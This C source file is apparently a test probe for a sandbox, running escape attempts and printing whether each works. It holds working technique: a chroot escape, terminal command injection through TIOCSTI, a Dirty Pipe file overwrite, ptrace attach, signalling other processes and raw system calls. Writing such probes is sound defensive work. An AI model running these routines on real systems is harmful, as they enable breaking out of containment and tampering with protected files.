/* What hostile programs do, for the tests of sections A, B and D. Prints what it sees; static, of libc alone. */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <mqueue.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

/* The result of a call, in one word. */
static const char *seen(long result) { return result >= 0 ? "succeeded" : strerrorname_np(errno); }

/* Descriptors that are open, but for the one that asks. */
static int fds(void) {
  DIR *directory = opendir("/proc/self/fd");
  if (directory == NULL) return perror("/proc/self/fd"), 1;
  for (struct dirent *entry; (entry = readdir(directory)) != NULL;)
    if (entry->d_name[0] != '.' && atoi(entry->d_name) != dirfd(directory)) printf("%s ", entry->d_name);
  printf("\n");
  return 0;
}

/* Leave a root by a directory that is kept over chroot, as far up as it goes, and look for a file of the host's. */
static int escape(const char *marker) {
  int root = open("/", O_RDONLY | O_DIRECTORY);
  mkdir("/tmp/prison", 0700);
  printf("chroot %s\n", seen(chroot("/tmp/prison")));
  if (fchdir(root) != 0) return perror("fchdir"), 1;
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0) return perror(".."), 1;
  if (chroot(".") != 0) printf("again %s\n", strerrorname_np(errno));
  printf("marker %s\n", seen(open(marker, O_RDONLY)));
  return 0;
}

/* Type a line into the terminal that is standard input. */
static int inject(void) {
  for (const char *c = "echo injected\n"; *c != 0; c++)
    if (ioctl(0, TIOCSTI, c) != 0) return printf("TIOCSTI %s\n", strerrorname_np(errno)), 0;
  printf("TIOCSTI succeeded\n");
  return 0;
}

/* Dirty Pipe: let a pipe hold a file's page, then write into the pipe. */
static int dirty(const char *path) {
  int pair[2];
  char byte;
  if (pipe(pair) != 0) return perror("pipe"), 1;
  for (int i = 0; i < 16; i++)
    if (write(pair[1], "x", 1) != 1 || read(pair[0], &byte, 1) != 1) return perror("fill"), 1;
  int file = open(path, O_RDONLY);
  if (file < 0) return perror(path), 1;
  loff_t offset = 0;
  printf("splice %s\n", seen(splice(file, &offset, pair[1], NULL, 1, 0)));
  printf("write %s\n", seen(write(pair[1], "OVERWRITTEN", 11)));
  printf("open for writing %s\n", seen(open(path, O_WRONLY)));
  return 0;
}

static int groups(const char *path) {
  gid_t list[64], none = 12345;
  int count = getgroups(64, list);
  printf("groups %d\n", count);
  printf("setgroups %s\n", seen(setgroups(0, NULL)));
  printf("setgroups other %s\n", seen(setgroups(1, &none)));
  printf("open %s\n", seen(open(path, O_RDONLY)));
  return 0;
}

static int abstract(int (*reach)(int, const struct sockaddr *, socklen_t)) {
  struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "\0hutch-attacker"};
  return reach(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, offsetof(struct sockaddr_un, sun_path) + 15);
}

static int binding(int file, const struct sockaddr *address, socklen_t length) {
  return bind(file, address, length) != 0 ? -1 : listen(file, 1);
}

static int connecting(const char *path) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
  return connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, sizeof address);
}

/* Files that a run leaves behind, or looks for. */
static const char *const PLACES[] = {"/tmp/left", "/var/tmp/left", "/dev/shm/left", "/run/left", "/root/left"};

/* Leave a message wherever the next box may look, say so, and stay until standard input ends. */
static int leave(void) {
  for (size_t i = 0; i < sizeof PLACES / sizeof *PLACES; i++)
    printf("%s %s\n", PLACES[i], seen(open(PLACES[i], O_CREAT | O_WRONLY, 0666)));
  printf("shm %s\n", seen(shmget(4711, 4096, IPC_CREAT | 0666)));
  printf("mqueue %s\n", seen(mq_open("/left", O_CREAT | O_RDWR, 0666, NULL)));
  printf("abstract %s\n", seen(abstract(binding)));
  printf("ready\n");
  fflush(stdout);
  char byte;
  while (read(0, &byte, 1) > 0) continue;
  return 0;
}

static int look(void) {
  for (size_t i = 0; i < sizeof PLACES / sizeof *PLACES; i++)
    printf("%s %s\n", PLACES[i], seen(open(PLACES[i], O_RDONLY)));
  printf("shm %s\n", seen(shmget(4711, 4096, 0)));
  printf("mqueue %s\n", seen(mq_open("/left", O_RDONLY)));
  printf("abstract %s\n", seen(abstract(connect)));
  return 0;
}

/* Exchange two names until standard input ends; tell how often. */
static int swap(const char *a, const char *b) {
  long count = 0;
  char byte;
  fcntl(0, F_SETFL, O_NONBLOCK);
  while (read(0, &byte, 1) < 0 && errno == EAGAIN) {
    if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0) return perror("renameat2"), 1;
    count++;
  }
  printf("%ld\n", count);
  return 0;
}

/* A system call as NUMBER,ARGUMENT,…: a child makes it and says how it went, for it may be its last. Number -1: i386's getpid. */
static void call(const char *text) {
  long words[7] = {0};
  char *end = (char *)text;
  for (int i = 0; i < 7 && (i == 0 || *end == ','); i++) words[i] = (long)strtoull(i == 0 ? end : end + 1, &end, 0);
  if (text[0] == '-') words[0] = -1;
  fflush(stdout);
  pid_t child = fork();
  if (child == 0) {
    long result = -1;
#ifdef __x86_64__
    if (words[0] == -1) __asm__ volatile("int $0x80" : "=a"(result) : "a"(20) : "memory");
    else
#endif
    result = syscall(words[0], words[1], words[2], words[3], words[4], words[5], words[6]);
    _exit(result >= 0 ? 0 : errno);
  }
  int status;
  if (waitpid(child, &status, 0) < 0) printf("%s %s\n", text, strerrorname_np(errno));
  else if (WIFSIGNALED(status)) printf("%s SIG%s\n", text, sigabbrev_np(WTERMSIG(status)));
  else printf("%s %s\n", text, WEXITSTATUS(status) == 0 ? "succeeded" : strerrorname_np(WEXITSTATUS(status)));
}

static int attack(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "", *first = argc > 2 ? argv[2] : "", *second = argc > 3 ? argv[3] : "";
  if (strcmp(what, "fds") == 0) return fds();
  if (strcmp(what, "escape") == 0) return escape(first);
  if (strcmp(what, "inject") == 0) return inject();
  if (strcmp(what, "dirty") == 0) return dirty(first);
  if (strcmp(what, "groups") == 0) return groups(first);
  if (strcmp(what, "leave") == 0) return leave();
  if (strcmp(what, "look") == 0) return look();
  if (strcmp(what, "swap") == 0) return swap(first, second);
  if (strcmp(what, "calls") == 0) {
    for (int i = 2; i < argc; i++) call(argv[i]);
    return 0;
  }
  if (strcmp(what, "connect") == 0) {
    for (int i = 2; i < argc; i++) printf("%s %s\n", argv[i], seen(connecting(argv[i])));
    return 0;
  }
  if (strcmp(what, "kill") == 0) return printf("kill %s\n", seen(kill(atoi(first), SIGKILL))), 0;
  if (strcmp(what, "kill-group") == 0) return signal(SIGTERM, SIG_IGN), printf("kill %s\n", seen(kill(0, SIGTERM))), 0;
  if (strcmp(what, "ptrace") == 0) return printf("ptrace %s\n", seen(ptrace(PTRACE_ATTACH, atoi(first), 0, 0))), 0;
  if (strcmp(what, "write") == 0) {
    for (int i = 2; i < argc; i++) printf("%s %s\n", argv[i], seen(open(argv[i], O_WRONLY)));
    return 0;
  }
  if (strcmp(what, "read") == 0) {
    for (int i = 2; i < argc; i++) printf("%s %s\n", argv[i], seen(open(argv[i], O_RDONLY)));
    return 0;
  }
  if (strcmp(what, "device") == 0) {
    struct stat status;
    for (int i = 2; i < argc; i++) {
      if (lstat(argv[i], &status) != 0) printf("%s %s\n", argv[i], strerrorname_np(errno));
      else printf("%s %o %u:%u\n", argv[i], status.st_mode & S_IFMT, major(status.st_rdev), minor(status.st_rdev));
    }
    return 0;
  }
  if (strcmp(what, "securebits") == 0) return printf("%d\n", prctl(PR_GET_SECUREBITS)), 0;
  if (strcmp(what, "ids") == 0) return printf("%d %d %d %d\n", getuid(), geteuid(), getgid(), getegid()), 0;
  if (strcmp(what, "lock") == 0) return printf("flock %s\n", seen(flock(open(first, O_RDONLY), LOCK_EX | LOCK_NB))), 0;
  fprintf(stderr, "attacker: unknown: %s\n", what);
  return 2;
}

int main(int argc, char **argv) {
  int code = attack(argc, argv);
  fflush(stdout);
  return code;
}
